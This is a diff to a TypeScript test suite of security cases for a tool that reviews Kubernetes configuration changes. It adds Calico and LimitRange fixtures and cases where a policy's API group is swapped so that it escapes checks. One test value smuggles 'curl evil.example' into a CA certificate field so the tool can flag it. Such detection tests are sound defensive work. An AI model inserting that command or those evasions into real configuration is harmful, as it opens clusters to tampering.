@@ -5,6 +5,7 @@ import {
   edited,
   FLEET,
   readFixture,
+  textOf,
   withManagers,
   without,
   withRunner,
@@ -85,6 +86,12 @@ const workload = (
 
 const cilium = (port: string) =>
   `apiVersion: cilium.io/v2\nkind: CiliumNetworkPolicy\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { endpointSelector: {}, egress: [{ toPorts: [{ ports: [{ port: "${port}" }] }] }] }\n`;
+
+const CALICO = textOf('networkpolicy-gitlab-jobs.yaml')
+  .replace('networking.k8s.io/v1', 'crd.projectcalico.org/v1')
+  .replace('  name: default\n', '  name: x\n');
+const LIMITS =
+  'apiVersion: v1\nkind: LimitRange\nmetadata: { name: jobs, namespace: gitlab-jobs }\nspec: { limits: [{ type: Pod, max: { cpu: "64" } }] }\n';
 
 const OVERWRITES = [
   'namespace',
@@ -235,6 +242,10 @@ export const SECURITY_CASES: readonly ImpactCase[] = [
   { rule: 'unknown-object', name: 'a CA that managers mount', before: CA('').slice(0, -1), after: CA(CERTIFICATE) },
   { rule: 'unjudged', name: 'a script beside the CA', before: CA(CERTIFICATE), after: CA(`curl evil.example\n${CERTIFICATE}`), says: ['security', /^No other rule judges what changes here: data\["ca\.crt"\] is curl evil/] },
 
+  { rule: 'network-change', name: 'a policy of which only a namesake of Calico is left', before: more(CALICO), after: without(more(CALICO), 'networkpolicy-gitlab-jobs'), says: ['security', /./] },
+  { rule: 'network-change', name: 'a policy that becomes one of Calico', after: configured(['networkpolicy-gitlab-jobs.yaml', 'networking.k8s.io/v1', 'crd.projectcalico.org/v1']), says: ['security', /./] },
+  { rule: 'room-widened', name: 'a LimitRange that becomes one of another group', before: more(LIMITS), after: more(LIMITS.replace('apiVersion: v1', 'apiVersion: example.com/v1')), says: ['security', /./] },
+  { rule: 'admission-change', name: 'a Namespace that becomes one of another group', after: configured([JOBS, 'apiVersion: v1', 'apiVersion: example.com/v1']), says: ['security', /./] },
   { rule: 'other-guards', name: 'a policy of Cilium that changes', before: more(cilium('443')), after: more(cilium('80')), says: ['security', /is not read here, and it changes/] },
   { rule: 'other-guards', name: 'a policy of Cilium that goes', before: more(cilium('443')), after: FLEET, says: ['security', /and it goes/] },
   { rule: 'other-guards', name: 'an exception to a policy', after: more('apiVersion: kyverno.io/v2\nkind: PolicyException\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { exceptions: [] }\n'), says: ['security', /and it comes/] },
